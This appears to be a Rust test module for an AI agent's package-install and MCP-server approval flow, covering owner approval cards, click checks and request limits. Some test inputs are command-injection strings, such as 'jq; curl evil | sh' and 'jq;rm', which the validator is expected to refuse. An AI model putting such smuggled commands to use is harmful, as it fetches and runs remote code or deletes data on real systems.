use super::*;
use crate::ids::{ChannelName, PlatformId};
use crate::router::Sender;
use crate::sessions::{ContainerStatus, SessionStatus};
use crate::store::roles::{self, Role, Scope};
use crate::store::testing::{agent, chat, user};
use nanoclaw_schema::session::content::SystemIn;

struct Fx {
    db: Db,
    session: Session,
    owner: UserId,
}

fn fx() -> Fx {
    let db = crate::store::testing::db();
    let a = agent(&db, "Helper");
    let origin = chat(&db, "test:room", Some("Room"), true);
    let owner = user(&db, "test:1").id;
    db.write(|c| roles::grant(c, &owner, Role::Owner, &Scope::Global, None))
        .unwrap();
    let session = Session {
        id: SessionId::parse("sess-1").unwrap(),
        agent_group_id: a.id.clone(),
        messaging_group_id: Some(origin.id.clone()),
        thread_id: None,
        provider: None,
        status: SessionStatus::Active,
        container_status: ContainerStatus::Stopped,
        last_active: None,
        created_at: nanoclaw_schema::time::now(),
    };
    db.write(|c| registry::insert(c, &session)).unwrap();
    Fx { db, session, owner }
}

fn install(apt: &[&str]) -> SystemAction {
    SystemAction::InstallPackages {
        apt: apt.iter().map(|s| s.to_string()).collect(),
        npm: vec![],
        reason: Some("to parse JSON".into()),
    }
}

fn server_action() -> SystemAction {
    SystemAction::AddMcpServer {
        name: "weather".into(),
        server: McpServer {
            command: "node".into(),
            args: vec!["/workspace/agent/weather.js".into()],
            env: BTreeMap::from([("API_TOKEN".into(), "s3cret".into())]),
        },
    }
}

fn queued(f: &Fx) -> Vec<SystemIn> {
    f.db.read(|c| queue::peek(c, &f.session.id, 100))
        .unwrap()
        .into_iter()
        .map(|(_, q)| serde_json::from_str(&q.content).unwrap())
        .collect()
}

/// Posts the card as `ask` would have: to the owner's DM, as message `card-1`.
fn card_posted(f: &Fx, id: &AgentRequestId) {
    let dm = chat(&f.db, "test:dm-1", None, false);
    f.db.write(|c| agent_requests::set_card(c, id, &f.owner, &dm.id, Some("card-1")))
        .unwrap();
}

fn click(by: &str, chat_id: &str, message: &str, id: &AgentRequestId, index: u32) -> Click {
    Click {
        channel: ChannelName::parse("test").unwrap(),
        chat_id: PlatformId::parse(chat_id).unwrap(),
        thread_id: None,
        message_id: message.into(),
        clicker: Sender {
            handle: by.into(),
            name: None,
            is_bot: false,
        },
        action_id: encode_button_id(id.as_str(), index),
    }
}

#[test]
fn ids_derive_from_the_row() {
    let s = SessionId::parse("sess-1").unwrap();
    assert_eq!(request_id(&s, "m1"), request_id(&s, "m1"));
    assert_ne!(request_id(&s, "m1"), request_id(&s, "m2"));
    assert_ne!(
        request_id(&s, "m1"),
        request_id(&SessionId::parse("sess-2").unwrap(), "m1")
    );
    assert!(request_id(&s, "m1").as_str().starts_with("areq-"));
}

#[test]
fn cards_name_the_agent_the_packages_and_the_reason() {
    let change = change_of(&install(&["jq", "ripgrep"])).unwrap();
    let text = card_text("Helper (helper)", &change);
    assert!(
        text.contains("Helper (helper) asks to install packages (apt: jq, ripgrep)"),
        "{text}"
    );
    assert!(
        text.contains("Reason (the agent's words): to parse JSON"),
        "{text}"
    );
}

#[test]
fn cards_show_environment_names_never_values() {
    let change = change_of(&server_action()).unwrap();
    let text = card_text("Helper", &change);
    assert!(
        text.contains("add MCP server \"weather\": node /workspace/agent/weather.js"),
        "{text}"
    );
    assert!(text.contains("environment: API_TOKEN"), "{text}");
    assert!(!text.contains("s3cret"), "{text}");
}

#[test]
fn payloads_round_trip_and_are_rechecked() {
    let change = change_of(&server_action()).unwrap();
    let json = serde_json::to_string(&change).unwrap();
    assert!(json.contains("\"kind\":\"add_mcp_server\""), "{json}");
    assert_eq!(serde_json::from_str::<Change>(&json).unwrap(), change);
    assert!(change_of(&install(&["jq;rm"])).unwrap().check().is_err());
    assert!(
        change_of(&SystemAction::CancelTask {
            task_id: "t".into()
        })
        .is_none()
    );
}

#[test]
fn an_invalid_request_is_a_note_and_no_request() {
    let f = fx();
    let got = submit(&f.db, &f.session, &install(&["jq; curl evil | sh"]), "m1").unwrap();
    assert_eq!(got, Submitted::Done);
    assert!(list(&f.db, true).unwrap().is_empty());
    let notes = queued(&f);
    assert_eq!(notes.len(), 1);
    assert_eq!(notes[0].ok, Some(false));
    assert!(
        notes[0].text.contains("install_packages refused"),
        "{}",
        notes[0].text
    );
}

#[test]
fn a_redelivered_row_opens_nothing_new() {
    let f = fx();
    let Submitted::Ask(id) = submit(&f.db, &f.session, &install(&["jq"]), "m1").unwrap() else {
        panic!("no card asked for")
    };
    // Retried before its card was posted: asked again, same request.
    assert_eq!(
        submit(&f.db, &f.session, &install(&["jq"]), "m1").unwrap(),
        Submitted::Ask(id.clone())
    );
    card_posted(&f, &id);
    assert_eq!(
        submit(&f.db, &f.session, &install(&["jq"]), "m1").unwrap(),
        Submitted::Done
    );
    assert_eq!(list(&f.db, true).unwrap().len(), 1);
}

#[test]
fn open_requests_per_agent_are_bounded() {
    let f = fx();
    for i in 0..MAX_OPEN_PER_AGENT {
        assert!(matches!(
            submit(&f.db, &f.session, &install(&["jq"]), &format!("m{i}")).unwrap(),
            Submitted::Ask(_)
        ));
    }
    assert_eq!(
        submit(&f.db, &f.session, &install(&["jq"]), "one-more").unwrap(),
        Submitted::Done
    );
    assert_eq!(
        list(&f.db, false).unwrap().len(),
        MAX_OPEN_PER_AGENT as usize
    );
    assert!(queued(&f)[0].text.contains("wait for a decision"));
}

#[test]
fn clicks_count_only_from_the_card_and_its_approver() {
    let f = fx();
    let Submitted::Ask(id) = submit(&f.db, &f.session, &server_action(), "m1").unwrap() else {
        panic!()
    };
    card_posted(&f, &id);
    // Someone else, even on the card itself.
    let got = on_click(&f.db, &click("9", "dm-1", "card-1", &id, APPROVE)).unwrap();
    assert!(matches!(got, ClickResult::Ignored(_)), "{got:?}");
    // The approver, from a look-alike card elsewhere.
    let got = on_click(&f.db, &click("1", "room", "card-1", &id, APPROVE)).unwrap();
    assert!(
        matches!(got, ClickResult::Ignored(ref w) if w.contains("another chat")),
        "{got:?}"
    );
    let got = on_click(&f.db, &click("1", "dm-1", "agent-card", &id, APPROVE)).unwrap();
    assert!(
        matches!(got, ClickResult::Ignored(ref w) if w.contains("another message")),
        "{got:?}"
    );
    let ignored =
        f.db.read(|c| agent_requests::ignored_clicks(c, &id))
            .unwrap();
    assert_eq!(ignored.as_array().unwrap().len(), 3);
    assert_eq!(ignored[0]["user"], "test:9");
    // The approver on the card.
    let got = on_click(&f.db, &click("1", "dm-1", "card-1", &id, REJECT)).unwrap();
    let ClickResult::Decided(r) = got else {
        panic!("{got:?}")
    };
    assert_eq!(r.status, RequestStatus::Denied);
    assert_eq!(r.decided_by.as_ref().map(|u| u.as_str()), Some("test:1"));
    // Decided once.
    assert!(matches!(
        on_click(&f.db, &click("1", "dm-1", "card-1", &id, APPROVE)).unwrap(),
        ClickResult::Ignored(_)
    ));
    // Other buttons are not ours.
    let mut other = click("1", "dm-1", "card-1", &id, APPROVE);
    other.action_id = encode_button_id("appr-unknown", 0);
    assert_eq!(on_click(&f.db, &other).unwrap(), ClickResult::NotOurs);
}

#[test]
fn a_rejection_is_told_to_the_agent_once() {
    let f = fx();
    let Submitted::Ask(id) = submit(&f.db, &f.session, &install(&["jq"]), "m1").unwrap() else {
        panic!()
    };
    f.db.write(|c| decide(c, &id, false, Some(&f.owner)))
        .unwrap();
    let sm = Arc::new(SelfMod::new(Paths::new("/nonexistent")));
    let (told, claims) = sm.due(&f.db).unwrap();
    assert_eq!(told.len(), 1);
    assert!(claims.is_empty());
    let notes = queued(&f);
    assert_eq!(notes.len(), 1);
    assert!(
        notes[0].text.contains("was rejected by test:1"),
        "{}",
        notes[0].text
    );
    let (told, _) = sm.due(&f.db).unwrap();
    assert!(told.is_empty(), "told once");
    // The CLI cannot decide it again.
    assert!(f.db.write(|c| decide(c, &id, true, None)).is_err());
}

#[test]
fn approved_requests_are_claimed_one_per_agent() {
    let f = fx();
    for key in ["m1", "m2"] {
        let Submitted::Ask(id) = submit(&f.db, &f.session, &install(&["jq"]), key).unwrap() else {
            panic!()
        };
        f.db.write(|c| decide(c, &id, true, None)).unwrap();
    }
    let sm = Arc::new(SelfMod::new(Paths::new("/nonexistent")));
    let (_, claims) = sm.due(&f.db).unwrap();
    assert_eq!(claims.len(), 1, "one change at a time per agent");
    assert!(sm.due(&f.db).unwrap().1.is_empty(), "still busy");
    drop(claims);
    assert_eq!(sm.due(&f.db).unwrap().1.len(), 1, "released");
}

#[test]
fn packages_merge_and_the_base_stays_the_base() {
    let config = json!({"image": "nanoclaw-agent-x:abc", "packages": {
        "apt": ["jq"], "npm": [], "base": "base:1", "image": "nanoclaw-agent-x:abc"}});
    let (apt, npm) = merged_packages(&config, &["git".into(), "jq".into()], &["left-pad".into()]);
    assert_eq!(apt, ["git", "jq"]);
    assert_eq!(npm, ["left-pad"]);
    let cfg = SupervisorConfig::new("mock:latest");
    let mut group = crate::store::agent_groups::AgentGroup {
        container_config: config,
        ..crate::store::testing::agent(&crate::store::testing::db(), "x")
    };
    assert_eq!(base_image(&cfg, &group), "base:1");
    // The operator chose another image since: that is the base now.
    group.container_config["image"] = json!("custom:2");
    assert_eq!(base_image(&cfg, &group), "custom:2");
    group.container_config = json!({});
    assert_eq!(base_image(&cfg, &group), "mock:latest");
}

#[test]
fn the_mcp_file_follows_the_config() {
    let dir = tempfile::tempdir().unwrap();
    write_mcp_servers_file(dir.path(), &json!({})).unwrap();
    assert!(
        !dir.path().join(MCP_SERVERS_FILE).exists(),
        "nothing to write"
    );
    let config = json!({"mcp_servers": {
        "weather": {"command": "node", "args": ["w.js"], "env": {"K": "v"}},
        "nanoclaw": {"command": "evil"},
    }});
    write_mcp_servers_file(dir.path(), &config).unwrap();
    let path = dir.path().join(MCP_SERVERS_FILE);
    let written: BTreeMap<String, McpServer> =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(
        written.keys().collect::<Vec<_>>(),
        ["weather"],
        "invalid entries left out"
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    write_mcp_servers_file(dir.path(), &json!({})).unwrap();
    assert_eq!(
        std::fs::read_to_string(&path).unwrap().trim(),
        "{}",
        "removed servers go"
    );
}
